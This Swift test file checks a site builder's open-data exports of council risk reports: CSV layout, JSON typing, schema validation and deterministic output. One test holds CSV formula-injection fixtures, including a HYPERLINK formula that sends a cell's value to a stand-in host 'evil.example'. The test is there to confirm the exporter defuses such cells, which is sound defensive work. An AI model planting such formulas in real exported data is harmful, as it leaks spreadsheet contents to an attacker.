import Testing
import Foundation
import SwiftCSV
@testable import BuildSite

/// Runs Debian's python3-jsonschema (installed by `make deps`) on a schema and a document; returns its report.
func validateWithJSONSchema(schema: URL, document: URL) throws -> (status: Int32, output: String) {
    let script = """
    import json, sys
    from jsonschema import Draft202012Validator
    schema = json.load(open(sys.argv[1], encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    errors = sorted(Draft202012Validator(schema).iter_errors(json.load(open(sys.argv[2], encoding="utf-8"))), key=lambda e: list(e.absolute_path))
    for error in errors:
        print("/".join(str(p) for p in error.absolute_path) + ": " + error.message)
    sys.exit(1 if errors else 0)
    """
    let process = Process()
    process.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
    process.arguments = ["-c", script, schema.path, document.path]
    let pipe = Pipe()
    process.standardOutput = pipe
    process.standardError = pipe
    try process.run()
    let data = pipe.fileHandleForReading.readDataToEndOfFile()
    process.waitUntilExit()
    return (process.terminationStatus, String(decoding: data, as: UTF8.self))
}

@Suite("Open data: risks.csv, risks.json, actions.csv and the JSON Schema", .serialized)
struct RiskOpenDataTests {
    static let riskHeader = OpenDataExport.riskColumns(matrix: .standard).map(\.name)

    @Test("risks.csv has a documented header and one row per risk per report, sorted by council, id and date")
    func risksCSV() throws {
        let site = try TemporarySite()
        defer { site.remove() }
        try RiskPagesTests.writeHistory(site)
        _ = try site.build()
        let text = try site.read("Site/risks.csv")
        #expect(text.hasPrefix("council,report_title,report_url,report_date,risk_id,risk_title,"))
        #expect(text.hasSuffix("\r\n"))
        let csv = try NamedCSV(string: text, delimiter: .comma)
        #expect(csv.header == Self.riskHeader)
        #expect(csv.header.count == 32)
        let rows = csv.rows
        #expect(rows.map { "\($0["council"] ?? "")|\($0["risk_id"] ?? "")|\($0["report_date"] ?? "")" } == [
            "London Borough of Camden|7|2024-03-22",
            "London Borough of Camden|7|2024-09-01",
            "London Borough of Camden|16|2022-03-01",
            "London Borough of Camden|16|2023-03",
            "London Borough of Camden|16|2024-03-22",
            "London Borough of Camden|16|2024-09-01",
            "London Borough of Islington|16|2023-06-01",
        ])
        let september = rows[5]
        #expect(september["report_title"] == "Deep-dive 2024-09-01")
        #expect(september["report_url"] == "https://example.org/deep-dives/2024-camden-sept/")
        #expect(september["risk_url"] == "https://example.org/deep-dives/2024-camden-sept/#risk-16")
        #expect(september["history_url"] == "https://example.org/risks/london-borough-of-camden/16/")
        #expect(september["risk_title"] == "Safeguarding Children")
        #expect([september["current_likelihood"], september["current_impact"], september["current_score"], september["current_band"]] == ["3", "5", "15", "High"])
        #expect([september["target_likelihood"], september["target_impact"], september["target_score"], september["target_band"]] == ["2", "5", "10", "Medium"])
        #expect([september["inherent_likelihood"], september["inherent_score"], september["inherent_band"]] == ["", "", ""])
        #expect(september["gap_to_target"] == "5")
        #expect(september["direction"] == "up")
        #expect(september["previous_report_date"] == "2024-03-22")
        #expect(september["previous_score"] == "10")
        #expect(rows[3]["target_score"] == "" && rows[3]["gap_to_target"] == "")
        #expect(rows[2]["direction"] == "new" && rows[2]["previous_score"] == "")
        // Islington's risk 16 is its own risk: new, though Camden scored a risk 16 before.
        #expect(rows[6]["direction"] == "new")
        // Risk 7: two actions, one open and overdue (due 31 January 2024), one complete.
        #expect([rows[0]["actions"], rows[0]["open_actions"], rows[0]["overdue_actions"]] == ["2", "1", "1"])
    }

    @Test("actions.csv: one row per action; commas, quotes, line breaks and non-ASCII text survive a real parser")
    func actionsCSV() throws {
        let site = try TemporarySite()
        defer { site.remove() }
        try site.write("Content/deep-dives/2024-q.md", """
        ---
        type: deep-dive
        title: "Quoting: \\"commas\\", and more"
        date: 2024-03-22
        council: Royal Borough of Kensington & Chelsea
        risks:
          - id: "R-1"
            title: "Children’s safeguarding, “risk” 1"
            current: {likelihood: 3, impact: 4}
            actions:
              - action: "Recruit 10 social workers, then \\"review\\""
                impact: "Line one\\nline two"
                owner: Zoë Ørsted
                due: 2024-01-31
                status: In progress
              - action: Close the old system
                due: Ongoing
                status: Complete
        ---
        """)
        _ = try site.build()
        let csv = try NamedCSV(string: try site.read("Site/actions.csv"), delimiter: .comma)
        #expect(csv.header == OpenDataExport.actionColumns.map(\.name))
        #expect(csv.rows.count == 2)
        let first = csv.rows[0]
        #expect(first["council"] == "Royal Borough of Kensington & Chelsea")
        #expect(first["report_title"] == "Quoting: \"commas\", and more")
        #expect(first["risk_title"] == "Children’s safeguarding, “risk” 1")
        #expect(first["action_number"] == "1")
        #expect(first["action"] == "Recruit 10 social workers, then \"review\"")
        #expect(first["expected_impact"] == "Line one\nline two")
        #expect(first["owner"] == "Zoë Ørsted")
        #expect(first["due"] == "2024-01-31")
        #expect(first["status"] == "In progress")
        #expect(first["open"] == "true" && first["overdue"] == "true")
        let second = csv.rows[1]
        #expect([second["action_number"], second["due"], second["status"], second["open"], second["overdue"]] == ["2", "Ongoing", "Complete", "false", "false"])

        let risks = try NamedCSV(string: try site.read("Site/risks.csv"), delimiter: .comma)
        #expect(risks.rows.count == 1)
        #expect(risks.rows[0]["risk_title"] == "Children’s safeguarding, “risk” 1")
        #expect(risks.rows[0]["risk_url"] == "https://example.org/deep-dives/2024-q/#risk-r-1")
        #expect(risks.rows[0]["history_url"] == "https://example.org/risks/royal-borough-of-kensington-chelsea/r-1/")
        #expect(site.exists("Site/risks/royal-borough-of-kensington-chelsea/r-1/index.html"))
    }

    @Test("risks.json holds the same rows as risks.csv, typed, and validates against the published JSON Schema")
    func jsonAndSchema() throws {
        let site = try TemporarySite()
        defer { site.remove() }
        try RiskPagesTests.writeHistory(site)
        _ = try site.build()
        let csv = try NamedCSV(string: try site.read("Site/risks.csv"), delimiter: .comma)
        let json = try #require(try JSONSerialization.jsonObject(with: Data(try site.read("Site/risks.json").utf8)) as? [String: Any])
        let objects = try #require(json["risks"] as? [[String: Any]])
        #expect(objects.count == csv.rows.count)
        for (object, row) in zip(objects, csv.rows) {
            #expect(Set(object.keys) == Set(Self.riskHeader))
            for key in Self.riskHeader {
                let value = object[key]
                let asCSV: String = switch value {
                case is NSNull: ""
                case let text as String: text
                case let number as NSNumber: number.stringValue
                default: "?"
                }
                #expect(asCSV == row[key], "\(key)")
            }
        }
        let september = objects[5]
        #expect(september["current_score"] as? Int == 15)
        #expect(september["inherent_score"] is NSNull)
        #expect(september["direction"] as? String == "up")

        let schema = site.root.appendingPathComponent("Site/risks.schema.json")
        let schemaJSON = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: schema)) as? [String: Any])
        #expect(schemaJSON["$schema"] as? String == "https://json-schema.org/draft/2020-12/schema")
        #expect(schemaJSON["$id"] as? String == "https://example.org/risks.schema.json")
        let valid = try validateWithJSONSchema(schema: schema, document: site.root.appendingPathComponent("Site/risks.json"))
        #expect(valid.status == 0, "\(valid.output)")

        // The schema is not a formality: a score off the matrix, an unknown band and a missing column fail it.
        var broken = objects
        broken[0]["current_score"] = 26
        broken[1]["current_band"] = "Purple"
        broken[2].removeValue(forKey: "risk_id")
        let brokenURL = site.root.appendingPathComponent("broken.json")
        try JSONSerialization.data(withJSONObject: ["risks": broken]).write(to: brokenURL)
        let invalid = try validateWithJSONSchema(schema: schema, document: brokenURL)
        #expect(invalid.status == 1)
        #expect(invalid.output.contains("risks/0/current_score: 26 is greater than the maximum of 25"), "\(invalid.output)")
        #expect(invalid.output.contains("risks/1/current_band: 'Purple' is not one of ['Low', 'Medium', 'High']"), "\(invalid.output)")
        #expect(invalid.output.contains("risks/2: 'risk_id' is a required property"), "\(invalid.output)")
    }

    @Test("The real reports as open data: Camden's 16 at 10 (Medium, gap 0) and Tower Hamlets at 25 (High)")
    func realContent() throws {
        let site = try TemporarySite(copyingRealContent: true)
        defer { site.remove() }
        _ = try site.build()
        let rows = try NamedCSV(string: try site.read("Site/risks.csv"), delimiter: .comma).rows
        #expect(rows.count == 2)
        let camden = try #require(rows.first { $0["risk_id"] == "16" })
        #expect(camden["council"] == "London Borough of Camden")
        #expect(camden["report_date"] == "2024-03-22")
        #expect(camden["report_url"] == "https://example.org/reports/deep-dives/2024-03-camden-safeguarding-children/")
        #expect([camden["current_score"], camden["current_band"], camden["target_score"], camden["gap_to_target"]] == ["10", "Medium", "10", "0"])
        #expect([camden["actions"], camden["open_actions"], camden["overdue_actions"]] == ["2", "2", "0"])
        let towerHamlets = try #require(rows.first { $0["risk_id"] == "CSC1" })
        #expect([towerHamlets["current_likelihood"], towerHamlets["current_impact"], towerHamlets["current_score"], towerHamlets["current_band"]] == ["5", "5", "25", "High"])
        #expect(towerHamlets["target_score"] == "")
        let actions = try NamedCSV(string: try site.read("Site/actions.csv"), delimiter: .comma).rows
        #expect(actions.map { $0["owner"] } == ["Tim Aldridge", "Tim Aldridge"])
        #expect(actions.first?["action"] == "Continued focus on recruitment and retention, fully operational multi-agency front door")
        let valid = try validateWithJSONSchema(schema: site.root.appendingPathComponent("Site/risks.schema.json"),
                                               document: site.root.appendingPathComponent("Site/risks.json"))
        #expect(valid.status == 0, "\(valid.output)")
    }

    @Test("CSV text cells that a spreadsheet would run as a formula start with a quote; numbers and JSON are as they are")
    func formulasDefused() throws {
        let site = try TemporarySite()
        defer { site.remove() }
        try site.write("Content/deep-dives/2024-f.md", """
        ---
        type: deep-dive
        title: Formulas
        date: 2024-03-22
        risks:
          - id: "R1"
            title: '=HYPERLINK("https://evil.example/?leak="&A1, "Click")'
            owner: "+44 20 7974 4444"
            category: "-cmd"
            statement: "@SUM(A1)"
            current: {likelihood: 1, impact: 1}
            target: {likelihood: 2, impact: 5}
            actions:
              - action: "\\tTabbed"
                impact: "\\rReturned"
                status: Ongoing
        ---
        """)
        _ = try site.build()
        let risk = try #require(try NamedCSV(string: try site.read("Site/risks.csv"), delimiter: .comma).rows.first)
        #expect(risk["risk_title"] == "'=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Click\")")
        #expect(risk["risk_title"]?.hasPrefix("'=") == true)
        #expect([risk["owner"], risk["category"], risk["statement"]] == ["'+44 20 7974 4444", "'-cmd", "'@SUM(A1)"])
        #expect(risk["gap_to_target"] == "-9")
        let action = try #require(try NamedCSV(string: try site.read("Site/actions.csv"), delimiter: .comma).rows.first)
        #expect([action["action"], action["expected_impact"]] == ["'\tTabbed", "'\rReturned"])
        let json = try #require(try JSONSerialization.jsonObject(with: Data(try site.read("Site/risks.json").utf8)) as? [String: Any])
        let object = try #require((json["risks"] as? [[String: Any]])?.first)
        #expect(object["risk_title"] as? String == "=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Click\")")
        #expect(object["gap_to_target"] as? Int == -9)
    }

    @Test("Two builds of the same content give the same bytes: sorted, no timestamps")
    func deterministic() throws {
        let site = try TemporarySite()
        defer { site.remove() }
        try RiskPagesTests.writeHistory(site)
        let files = ["risks.csv", "risks.json", "actions.csv", "risks.schema.json", "risks/index.html", "risks/london-borough-of-camden/16/index.html"]
        _ = try site.build()
        let first = try files.map { try site.read("Site/" + $0) }
        _ = try site.build()
        #expect(try files.map { try site.read("Site/" + $0) } == first)
    }

    @Test("Each kind of column, with its limits and words, has a fingerprint text of its own")
    func columnKindsFingerprintApart() {
        let kinds: [OpenDataColumn.Kind] = [
            .text, .date, .url, .boolean,
            .integer(minimum: 0, maximum: nil), .integer(minimum: 0, maximum: 5), .integer(minimum: 1, maximum: 5), .integer(minimum: 0, maximum: 0),
            .word([]), .word(["a"]), .word(["a", "b"]), .word(["a b"]), .word(["b", "a"]),
        ]
        let texts = kinds.map(\.fingerprintText)
        #expect(Set(texts).count == kinds.count, "\(texts)")
    }
}
